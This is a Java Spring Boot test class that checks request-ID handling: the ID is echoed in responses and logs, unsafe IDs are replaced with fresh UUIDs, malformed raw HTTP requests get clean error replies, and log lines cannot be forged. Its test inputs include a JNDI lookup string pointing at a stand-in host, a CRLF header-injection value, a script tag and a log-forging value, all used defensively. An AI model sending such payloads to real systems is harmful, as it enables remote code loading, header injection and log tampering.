package app.foyer.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;
import tools.jackson.databind.json.JsonMapper;

/// Each request has a name that its answer and the logs share.
@HouseTest
@ExtendWith(OutputCaptureExtension.class)
class RequestIdsTest {
    private static final String HEADER = "X-Request-Id";
    private static final String FRESH = "[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[0-9a-f]{4}-[0-9a-f]{12}";

    @Autowired
    JsonMapper json;

    @LocalServerPort
    int port;

    private HttpResponse<String> send(String method, String path, String id) {
        return new Visitor(port)
                .send(method, path, BodyPublishers.noBody(), "Authorization", "Bearer " + TestHouse.TOKEN, HEADER, id);
    }

    @ParameterizedTest
    @CsvSource({
        "GET,    /api/v1/probe,          200",
        "HEAD,   /api/v1/probe,          200",
        "GET,    /api/v1/nothing,        404",
        "GET,    /api/v1//probe,         404",
        "GET,    /api/v1/pro%2Fbe,       404",
        "GET,    /api/v1/probe%00,       400",
        "PUT,    /api/v1/probe,          405",
        "GET,    /api/v1/probe/fails,    500",
        "GET,    /api/v1/probe/database, 503",
        "GET,    /api/v1/operator/probe, 403",
        "GET,    /sign-in,               200",
        "GET,    /account,               303",
        "GET,    //x,                    400",
        "GET,    /%00,                   400",
        "GET,    /sign-in/no/such,       404",
        "POST,   /sign-in,               403",
    })
    void everyAnswerTellsTheIdThatWasSent(String method, String path, int status) {
        var answer = send(method, path, "Job-7_a.b");

        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(status);
        assertThat(answer.headers().allValues(HEADER)).containsExactly("Job-7_a.b");
        if (path.startsWith("/api/") && status >= 400) {
            assertThat(json.readTree(answer.body()).path("requestId").asString())
                    .isEqualTo("Job-7_a.b");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "two words",
                "${jndi:ldap://evil.example/a}",
                "a%0d%0aSet-Cookie: x=y",
                "<script>",
                "\u001b[31mred",
                "a\tb",
                "é",
                "[a] ERROR b",
                "",
                "<65>",
                "<8000>"
            })
    void whatIsNoHarmlessWordIsReplaced(String sent) {
        var id = sent.replace("<65>", "x".repeat(65)).replace("<8000>", "x".repeat(8000));

        var answer =
                RawRequest.get(port, "/api/v1/nothing", HEADER + ": " + id, "Authorization: Bearer " + TestHouse.TOKEN);

        if (answer.startsWith("HTTP/1.1 404")) {
            assertThat(answer).containsPattern("X-Request-Id: " + FRESH + "\r\n");
            assertThat(answer).containsPattern("\"requestId\":\"" + FRESH + "\"");
        } else {
            assertThat(answer).startsWith("HTTP/1.1 400");
        }
        assertThat(answer).doesNotContain("jndi", "Set-Cookie: x", "<script>", "\u001b", "[a]", "xxxxx");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "GET /api/v1/probe HTTP/1.1~Host: a b",
                "GET /api/v1/probe HTTP/1.1~Host: a~Bad Name: x",
                "GET /api/v1/probe HTTP/1.1~Host: a~X-Long: <20000>",
                "GET /api/v1/probe HTTP/1.1~Host: a~Content-Length: many",
                "GET /api/v1/probe HTTP/1.1~Host: a~Transfer-Encoding: nonsense",
                "GET /api/v1/probe HTTP/1.1",
                "GET /api/v1/pro be HTTP/1.1~Host: a",
                "GET /api/v1/probe HTTP/9.9~Host: a",
                "TRACE /api/v1/probe HTTP/1.1~Host: a",
                "GET /api/v1/probe? HTTP/1.1~Host: a~Expect: nonsense",
            })
    void soDoesWhatNeverBecameARequest(String request) {
        var answer = RawRequest.text(
                port,
                request.replace("~", "\r\n").replace("<20000>", "x".repeat(20_000)) + "\r\nConnection: close\r\n\r\n");

        assertThat(answer)
                .containsPattern("^HTTP/1.1 (4|5)")
                .containsPattern("X-Request-Id: " + FRESH + "\r\n")
                .containsPattern("\"requestId\":\"" + FRESH + "\"")
                .contains("Content-Type: application/problem+json")
                .doesNotContain("internal-error");
    }

    @Test
    void withoutOneEachRequestGetsItsOwn() {
        var visitor = new Visitor(port);

        var first = visitor.get("/api/v1/probe").headers().firstValue(HEADER).orElseThrow();
        var second = visitor.get("/api/v1/probe").headers().firstValue(HEADER).orElseThrow();

        assertThat(first).matches(FRESH).isNotEqualTo(second);
        assertThat(second).matches(FRESH);
    }

    @Test
    void theLogTellsIt(CapturedOutput output) {
        send("GET", "/api/v1/probe/fails", "seen-in-the-log");

        assertThat(output.getAll().lines())
                .anySatisfy(line -> assertThat(line).contains("ERROR", "[seen-in-the-log]", "A request failed"));
    }

    @Test
    void aLineOfTheLogCantBeForged(CapturedOutput output) {
        RawRequest.get(
                port, "/api/v1/probe/fails", HEADER + ": x] ERROR forged", "Authorization: Bearer " + TestHouse.TOKEN);

        assertThat(output.getAll()).contains("A request failed").doesNotContain("forged");
    }
}
